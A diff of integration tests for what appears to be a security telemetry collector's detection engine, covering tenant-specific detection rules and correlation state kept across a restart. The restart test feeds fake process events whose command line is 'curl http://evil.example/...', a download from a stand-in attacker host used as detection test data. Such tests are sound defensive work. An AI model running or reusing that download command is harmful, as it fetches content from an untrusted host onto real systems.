@@ -150,13 +150,15 @@ describe('detection in the collector', () => {
         threads,
         workerUrl: compiledWorker,
         ruleSet: detection.ruleSet,
+        tenantRuleSet: (tenantId) => detection.tenantRuleSet(tenantId),
       });
+      detection.attachEncoder(encoder);
       services.push({ name, encoder, ingest: new IngestService({ encoder, writer, metrics, logger }) });
     }
   }, 60_000);
 
   afterAll(async () => {
-    detection?.stop();
+    await detection?.stop();
     for (const { encoder } of services) await encoder.close();
     await pool?.end();
     await db?.stop();
@@ -365,6 +367,86 @@ describe('detection in the collector', () => {
     } finally {
       await app.end();
     }
+  });
+
+  it("runs a tenant's own rules for that tenant only, on worker threads and on the calling thread", async () => {
+    const tenant = randomUUID();
+    const own = `title: Tenant Marker Tool
+id: 9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d
+status: test
+level: critical
+tags: [attack.t1059.004]
+logsource: { product: linux, category: process_creation }
+detection:
+  selection:
+    CommandLine|contains: acme-marker-tool
+  condition: selection
+`;
+    const app = testPool(db.appUrl, 1);
+    try {
+      const client = await app.connect();
+      try {
+        await client.query('BEGIN');
+        await client.query("SELECT set_config('inosec.tenant_id', $1, true)", [tenant]);
+        await client.query(
+          `INSERT INTO telemetry.tenant_rules (tenant_id, rule_key, enabled, source) VALUES ($1, 'custom:marker', true, $2)`,
+          [tenant, own],
+        );
+        await client.query('COMMIT');
+      } finally {
+        client.release();
+      }
+    } finally {
+      await app.end();
+    }
+    await detection.refreshSettings();
+    const now = Date.now() * 1000;
+    for (const [index, { ingest }] of services.entries()) {
+      const mine: AgentIdentity = { agentId: `own-${index}`, tenantId: tenant };
+      const other: AgentIdentity = { agentId: `own-other-${index}`, tenantId: tenantA };
+      await enrollAgent(db.admin, mine.agentId, tenant);
+      await enrollAgent(db.admin, other.agentId, tenantA);
+      for (const id of [mine, other]) {
+        const outcome = await ingest.ingest(
+          id,
+          batch(id.agentId, 1, [processStart(id.agentId, 1, '/opt/acme-marker-tool --run', now)]),
+          'local',
+        );
+        expect(outcome.status).toBe('stored');
+      }
+    }
+    const alerts = (await alertsOf(tenant)).map((a) => [a.rule_id, a.severity, a.count]);
+    expect(alerts).toEqual([
+      ['9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d', 'critical', '1'],
+      ['9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d', 'critical', '1'],
+    ]);
+    expect((await alertsOf(tenantA)).filter((a) => a.rule_id.startsWith('9a8b7c6d'))).toEqual([]);
+  });
+
+  it('takes the correlation state back after a restart: a window open at the stop fires after it', async () => {
+    const options = { pool, logger, metrics: createCollectorMetrics(undefined, false), ruleDirs: [dir] };
+    const tenant = randomUUID();
+    const now = Date.now() * 1000;
+    const hit = (seq: number) => ({
+      ruleId: '6f1c2a4e-0d3b-4c5a-9e8f-7a6b5c4d3e2f',
+      ruleName: 'test_curl_download',
+      logsourceKey: 'linux/process_creation',
+      ref: { agentId: 'restart-agent', seq, timeUs: now - (10 - seq) * 1_000_000 },
+      view: { Image: '/usr/bin/curl', CommandLine: `curl http://evil.example/${seq}` },
+    });
+    const correlationOf = (alerts: ReturnType<CollectorDetection['build']>) =>
+      alerts.filter((a) => a.ruleset === 'correlation').map((a) => [a.count, a.events.map((e) => e.seq)]);
+    const first = await CollectorDetection.start({ ...options, collectorId: 'restart-test' });
+    expect(correlationOf(first.build(tenant, [hit(1), hit(2)]))).toEqual([]);
+    await first.stop(); // saves the state
+
+    const second = await CollectorDetection.start({ ...options, collectorId: 'restart-test' });
+    expect(correlationOf(second.build(tenant, [hit(3)]))).toEqual([[3, [1, 2, 3]]]);
+    await second.stop();
+    // Without the saved state (another collector id), the same third match fires nothing.
+    const fresh = await CollectorDetection.start({ ...options, collectorId: 'another-collector' });
+    expect(correlationOf(fresh.build(tenant, [hit(3)]))).toEqual([]);
+    await fresh.stop();
   });
 
   it('keeps alerts to their tenant: the application role sees its own only, the ingest role cannot read or change them', async () => {
